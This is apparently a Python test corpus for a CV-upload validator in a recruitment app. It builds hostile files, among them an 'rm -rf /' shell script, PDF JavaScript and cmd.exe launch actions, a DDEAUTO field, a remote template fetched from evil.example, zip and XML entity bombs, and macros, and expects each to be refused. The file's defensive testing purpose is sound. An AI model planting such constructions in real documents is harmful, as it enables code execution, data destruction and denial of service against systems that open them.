"""Files that a stranger hands in as a CV and that are none, or more than one. Each is refused at the door (P46)."""

import io
from collections.abc import Callable

from pypdfium2 import PdfDocument

from careerrelay.candidates.rules.documents import refusals as no
from careerrelay.candidates.rules.documents.refusals import UnfitDocument
from tests.corpus.documents import PAGE, PAGES, cv_pdf, docx, odt, old_doc, paragraph, pdf_stream, raw_pdf
from tests.corpus.hostile import EICAR
from tests.corpus.workbooks import (
    archive,
    compound_file,
    crowded_archive,
    lying_archive,
    xlsx,
)

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {after} "{f"&{before};" * 10}">'
        for before, after in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]><w:document><w:body><w:p><w:t>&i;</w:t></w:p></w:body></w:document>"
)
_CATALOG = "<</Type/Catalog/Pages 2 0 R{}>>"


def _with_catalog(entry: str, *more: str | bytes) -> bytes:
    return raw_pdf(_CATALOG.format(entry), PAGES, PAGE, *more)


def _hidden_script() -> bytes:
    """The action stands in a compressed stream of objects, where no search of the bytes finds it."""
    inner = b"5 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"
    catalog = _CATALOG.format("/OpenAction 5 0 R").encode()
    objects = [catalog, PAGES.encode(), PAGE.encode(), pdf_stream(inner, written="/Type/ObjStm/N 1/First 4")]
    out = bytearray(b"%PDF-1.7\n")
    rows = [b"\0\0\0\0\0"]
    for number, body in enumerate(objects, start=1):
        rows.append(b"\x01" + len(out).to_bytes(3, "big") + b"\0")
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows.append(b"\x02\0\0\x04\0")
    at = len(out)
    rows.append(b"\x01" + at.to_bytes(3, "big") + b"\0")
    table = pdf_stream(b"".join(rows), written="/Type/XRef/Size 7/W[1 3 1]/Root 1 0 R")
    out += b"6 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, at)
    return bytes(out)


def _locked_script() -> bytes:
    return cv_pdf(user_password="").replace(
        b"/Type /Catalog", b"/OpenAction<</S/JavaScript/JS(x)>>/Type /Catalog"
    )


def _attachment() -> bytes:
    document = PdfDocument(cv_pdf())
    document.new_attachment("invoice.exe").set_data(b"MZ" + bytes(100))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _doctype_in_two_pieces() -> bytes:
    """The declaration lies across the border of two pieces of a megabyte."""
    filler = b"".join(b"<!--%d-->" % number for number in range(100_000))
    head = b"<?xml version='1.0'?>"
    return docx(
        parts={"word/footnotes.xml": head + filler[: (1 << 20) - len(head) - 4] + b"<!DOCTYPE x><x/>"}
    )


HOSTILE_DOCUMENTS: dict[str, tuple[Callable[[], bytes], type[UnfitDocument]]] = {
    "nothing": (lambda: b"", no.EmptyDocument),
    "blanks": (lambda: b"\xef\xbb\xbf \r\n\0", no.EmptyDocument),
    "10 MB and a byte": (lambda: b"a" * 10_000_001, no.OversizedDocument),
    "EICAR": (lambda: EICAR, no.InfectedDocument),
    "EICAR behind a letter": (lambda: "職務経歴書\n".encode() + EICAR, no.InfectedDocument),
    "program": (lambda: b"MZ" + bytes(1000), no.UnsupportedDocument),
    "script": (lambda: b"#!/bin/sh\nrm -rf /\n", no.UnsupportedDocument),
    "page": (lambda: b"<html><script>alert(1)</script></html>", no.UnsupportedDocument),
    "picture as page": (lambda: b"<svg onload='alert(1)'/>", no.UnsupportedDocument),
    "photo": (lambda: b"\xff\xd8\xff\xe0" + bytes(1000), no.PictureDocument),
    "screenshot": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(1000), no.PictureDocument),
    "rubbish": (lambda: bytes(range(256)) * 40, no.UnsupportedDocument),
    "RTF": (lambda: b"{\\rtf1\\ansi hello}", no.UnsupportedDocument),
    "presentation": (lambda: archive({"ppt/presentation.xml": "<x/>"}), no.UnsupportedDocument),
    "archive of CVs": (lambda: archive({"a.pdf": cv_pdf()}), no.UnsupportedDocument),
    # PDF
    "PDF cut off": (lambda: cv_pdf()[:-200], no.DamagedDocument),
    "PDF of nothing": (lambda: b"%PDF-1.7\n%%EOF\n", no.DamagedDocument),
    "PDF without pages": (
        lambda: raw_pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"),
        no.DamagedDocument,
    ),
    "PDF with a password": (lambda: cv_pdf(user_password="secret"), no.ProtectedDocument),
    "PDF and archive": (lambda: cv_pdf() + archive({"evil.exe": b"MZ"}), no.DisguisedDocument),
    "PDF and page": (lambda: cv_pdf() + b"<script>alert(1)</script>", no.DisguisedDocument),
    "page that is a PDF": (
        lambda: cv_pdf().replace(b"%PDF-1.3", b"%PDF-1.3\n%<html><script>", 1),
        no.DisguisedDocument,
    ),
    "PDF and much behind it": (lambda: cv_pdf() + b"x" * 50_000, no.DisguisedDocument),
    "script when opened": (
        lambda: _with_catalog("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        no.ActiveDocument,
    ),
    "script by another spelling": (
        lambda: _with_catalog("/OpenAction<</S/J#61va#53cript/J#53(x)>>"),
        no.ActiveDocument,
    ),
    "script in compressed objects": (_hidden_script, no.ActiveDocument),
    "script in a locked file": (_locked_script, no.ActiveDocument),
    "script of a page": (
        lambda: raw_pdf(
            _CATALOG.format(""), PAGES, PAGE.replace(">>", "/AA<</O 4 0 R>>>>"), "<</S/JavaScript/JS(x)>>"
        ),
        no.ActiveDocument,
    ),
    "program started": (
        lambda: _with_catalog("/OpenAction<</S/Launch/F(cmd.exe)>>"),
        no.ActiveDocument,
    ),
    "form of another kind": (
        lambda: _with_catalog("/AcroForm<</XFA 4 0 R>>", pdf_stream(b"<xdp/>")),
        no.ActiveDocument,
    ),
    "file in the file": (_attachment, no.ActiveDocument),
    # Word and OpenDocument
    "zip bomb": (lambda: docx(parts={"word/media/image1.png": bytes(190_000_000)}), no.SwollenDocument),
    "zip bomb that lies": (
        lambda: lying_archive("word/document.xml", bytes(50_000_000), declared_bytes=1_000),
        no.DamagedDocument,
    ),
    "100,000 entries": (
        lambda: crowded_archive(100_000, last="word/document.xml"),
        no.SwollenDocument,
    ),
    "100,000 entries that say they are one": (
        lambda: crowded_archive(100_000, last="word/document.xml", said=1),
        no.SwollenDocument,
    ),
    "macro": (lambda: docx(parts={"word/vbaProject.bin": b"x"}), no.MacroDocument),
    "macro in a workbook": (lambda: xlsx("<x/>", parts={"xl/vbaProject.bin": b"x"}), no.MacroDocument),
    "entity bomb": (lambda: archive({"word/document.xml": BILLION_LAUGHS}), no.DisguisedDocument),
    "entity bomb in UTF-16": (
        lambda: archive({"word/document.xml": BILLION_LAUGHS.encode("utf-16")}),
        no.DisguisedDocument,
    ),
    "declaration across a border": (_doctype_in_two_pieces, no.DisguisedDocument),
    "program in Word": (lambda: docx(parts={"word/embeddings/cv.exe": b"MZ"}), no.ActiveDocument),
    "program by another name": (
        lambda: docx(parts={"word/media/image1.png": b"MZ\x90\0"}),
        no.ActiveDocument,
    ),
    "packaged file": (
        lambda: docx(
            parts={
                "word/embeddings/oleObject1.bin": compound_file({"\x01Ole10Native": b"evil.exe"}),
            }
        ),
        no.ActiveDocument,
    ),
    "template from elsewhere": (
        lambda: docx(
            parts={
                "word/_rels/settings.xml.rels": '<Relationships><Relationship Type="x/attachedTemplate" '
                'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
            }
        ),
        no.ActiveDocument,
    ),
    "field that starts a program": (
        lambda: docx("<w:p><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:p>"),
        no.ActiveDocument,
    ),
    "Word cut off": (lambda: docx()[:-30], no.DamagedDocument),
    "Word and page": (lambda: docx() + b"<script>alert(1)</script>", no.DamagedDocument),
    "page before Word": (lambda: b"<script>alert(1)</script>" + docx(), no.UnsupportedDocument),
    "Word with a password": (
        lambda: compound_file({"EncryptionInfo": b"x", "EncryptedPackage": b"y"}),
        no.ProtectedDocument,
    ),
    "macro in OpenDocument": (lambda: odt(parts={"Basic/Standard/Module1.xml": "<x/>"}), no.MacroDocument),
    "OpenDocument with a password": (
        lambda: odt(parts={"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        no.ProtectedDocument,
    ),
    # old Word
    "old macro": (lambda: old_doc(more={"_VBA_PROJECT": b"x"}), no.MacroDocument),
    "old password": (lambda: old_doc(flags=0x0100), no.ProtectedDocument),
    "old rubbish": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 5000, no.UnsupportedDocument),
    "old and broken": (lambda: compound_file({"WordDocument": b"x"}), no.DamagedDocument),
    "encoding of nobody": (
        lambda: "職歴".encode("cp932") * 100 + bytes(range(128, 256)) * 3,
        no.DamagedDocument,
    ),
}


def _bomb_page() -> bytes:
    drawn = b"BT /F1 1 Tf (x) Tj ET " * 2_000_000
    return raw_pdf(_CATALOG.format(""), PAGES, PAGE.replace(">>", "/Contents 4 0 R>>"), pdf_stream(drawn))


def _endless_form() -> bytes:
    """A form that draws itself twice."""
    page = PAGE.replace(">>", "/Resources<</XObject<</X 5 0 R>>>>/Contents 4 0 R>>")
    form = pdf_stream(
        b"/X Do /X Do", written="/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
    )
    return raw_pdf(_CATALOG.format(""), PAGES, page, pdf_stream(b"/X Do"), form)


# May come in, because nobody can tell at the door; reading them stays within its bounds.
COSTLY: dict[str, Callable[[], bytes]] = {
    "page of 44 MB": _bomb_page,
    "form that draws itself": _endless_form,
    "pages that are their own parents": lambda: raw_pdf(
        _CATALOG.format(""), "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>"
    ),
    "a million brackets": lambda: raw_pdf(_CATALOG.format("/A " + "[" * 1_000_000), PAGES, PAGE),
    "deep boxes": lambda: docx("<w:p>" * 200_000 + "</w:p>" * 200_000),
    "one long line": lambda: docx(paragraph("あ" * 3_000_000)),
    "a hundred thousand cells": lambda: docx(
        "<w:tbl>" + "<w:tr>" + "<w:tc><w:p/></w:tc>" * 300_000 + "</w:tr></w:tbl>"
    ),
    "9 MB of text": lambda: "本籍 東京都 家族 配偶者\n".encode() * 280_000,
    "300 pages": lambda: cv_pdf(
        [f"{number} 計測器の組込みソフトウェア開発を担当しました。" for number in range(40)], pages=300
    ),
}
